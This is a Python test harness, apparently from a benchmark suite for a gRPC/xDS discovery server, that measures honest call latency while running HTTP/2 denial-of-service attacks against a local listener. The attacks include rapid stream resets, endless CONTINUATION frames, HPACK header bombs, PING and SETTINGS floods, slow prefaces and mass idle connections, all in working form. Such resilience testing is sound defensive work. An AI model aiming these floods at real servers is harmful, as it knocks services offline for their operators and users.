"""Who calls discovery as it should, and who attacks a listener: each a process of attack_bench or of an e2e test, until its standard
input ends.

    attack_peers.py honest ADDRESS PORT [METHOD]    prints, as JSON, when each call began (seconds of the monotonic clock) and how
                                                    long it took (ms): connect, ask, get an answer
    attack_peers.py ATTACK ADDRESS PORT [METHOD]    prints how often it was cut off, and how many connections it held at the end

ADDRESS may be the path of a socket. METHOD is what is called: discovery's stream, asked for a listener, if nothing else.
"""

import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "e2e"))
from harness.raw_h2 import (END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, ACK, DATA, END_STREAM, WINDOW_UPDATE,  # noqa: E402  pylint: disable=wrong-import-position
                            frame, literal)

CONTINUATION = 9
RATE = 100  # honest calls a second
STREAM = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
STATUS = "/fairlead.admin.v1.Admin/GetStatus"
METHOD = sys.argv[4] if len(sys.argv) > 4 else STREAM
LISTENER = b"type.googleapis.com/envoy.config.listener.v3.Listener"
IDLE = 10_000
IDLE_PER_ADDRESS = 1_000
SLOW = 1_000


def field(number, payload):
    return bytes([number << 3 | 2, len(payload)]) + payload


def headers():
    return b"".join(literal(name, value) for name, value in {
        ":method": "POST", ":scheme": "http", ":path": METHOD, ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers"}.items())


def asked(stream):
    message = field(2, field(1, b"raw")) + field(3, b"api") + field(4, LISTENER)
    return (frame(HEADERS, END_HEADERS, stream, headers())
            + frame(DATA, 0, stream, b"\x00" + struct.pack(">I", len(message)) + message))


def connect(where, source, seconds=10):
    if where[0].startswith("/"):
        peer = socket.socket(socket.AF_UNIX)
        peer.settimeout(seconds)
        peer.connect(where[0])
        return peer
    peer = socket.create_connection(where, seconds, source_address=(source, 0))
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return peer


def is_over():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def call(where):
    unread = b""
    with connect(where, "127.0.0.2") as peer:
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0) + asked(1))
        while True:
            got = peer.recv(65536)
            if not got:
                raise ConnectionError("an honest call was cut off")
            unread += got
            while len(unread) >= 9 and len(unread) >= 9 + int.from_bytes(unread[:3], "big"):
                kind, size = unread[3], int.from_bytes(unread[:3], "big")
                if (kind == DATA and size) or (kind == HEADERS and unread[4] & END_STREAM):
                    return
                unread = unread[9 + size:]


def honest(where):
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    calls, due = [], time.monotonic()
    while not is_over():
        time.sleep(max(0, due - time.monotonic()))
        due = max(due, time.monotonic() - 1) + 1 / RATE
        began = time.monotonic()
        call(where)
        calls.append((began, (time.monotonic() - began) * 1000))
    return calls


def flood(where, first, again):
    """Sends `first` and then `again` (number of the round) until cut off, and comes back at once."""
    cut = 0
    while not is_over():
        try:
            with connect(where, "127.0.0.3") as peer:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0) + first)
                for number in range(1_000_000):
                    peer.sendall(again(number))
                    while select.select([peer], [], [], 0)[0]:
                        if not peer.recv(65536):
                            raise ConnectionError
                    if is_over():
                        break
        except (ConnectionError, TimeoutError):
            cut += 1
    return cut, 0


def resets(number):
    first = 1 + 2 * 100 * number
    return b"".join(frame(HEADERS, END_HEADERS, stream, headers()) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 200, 2))


def made_resets(number):
    """By the server, as what follows each call is wrong."""
    first = 1 + 2 * 100 * number
    return b"".join(frame(HEADERS, END_HEADERS, stream, headers()) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
                    for stream in range(first, first + 200, 2))


def bomb(number):
    """4 KiB into the table of names, and that four hundred times."""
    value = b"x" * 4000
    entry = b"\x40\x03bom" + b"\x7f" + bytes([(len(value) - 127) & 127 | 128, (len(value) - 127) >> 7]) + value
    return frame(HEADERS, END_HEADERS, 1 + 2 * number, headers() + entry + b"\xbe" * 400)


def held(where, count, first, later):
    """`count` connections that have said `first` and say `later` once a second."""
    cut, kept = 0, []
    while not is_over():
        began = time.monotonic()
        while len(kept) < count and not is_over() and time.monotonic() - began < 1:
            try:
                kept.append(connect(where, f"127.0.3.{1 + len(kept) // IDLE_PER_ADDRESS}", 2))
                kept[-1].sendall(first)
                kept[-1].setblocking(False)
            except OSError:
                cut += 1
        for peer in list(kept) if later else []:
            try:
                peer.send(later)
            except OSError:
                cut += 1
                kept.remove(peer)
                peer.close()
        select.select([sys.stdin], [], [], max(0, began + 1 - time.monotonic()))
    return cut, len(kept)


ATTACKS = {
    "rapid resets": lambda where: flood(where, b"", resets),
    "made resets": lambda where: flood(where, b"", made_resets),
    "CONTINUATION without end": lambda where: flood(where, frame(HEADERS, 0, 1, headers()),
                                                    lambda _: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 1000),
    "header bombs": lambda where: flood(where, b"", bomb),
    "PING flood": lambda where: flood(where, b"", lambda _: frame(PING, 0, 0, b"12345678") * 1000),
    "SETTINGS flood": lambda where: flood(where, b"", lambda _: frame(SETTINGS, 0, 0) * 1000),
    "window 0": lambda where: flood(where, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)),
                                    lambda number: b"".join(asked(1 + 2 * (50 * number + each)) for each in range(50))),
    "no HTTP/2": lambda where: flood(where, b"", lambda _: os.urandom(65536)),
    "slow prefaces": lambda where: held(where, SLOW, PREFACE[:3], PREFACE[3:4]),
    "10,000 idle connections": lambda where: held(where, IDLE, PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0), b""),
}


def main():
    name, address, port = sys.argv[1:4]
    where = (address, int(port))
    print(json.dumps(honest(where) if name == "honest" else ATTACKS[name](where)))


if __name__ == "__main__":
    main()
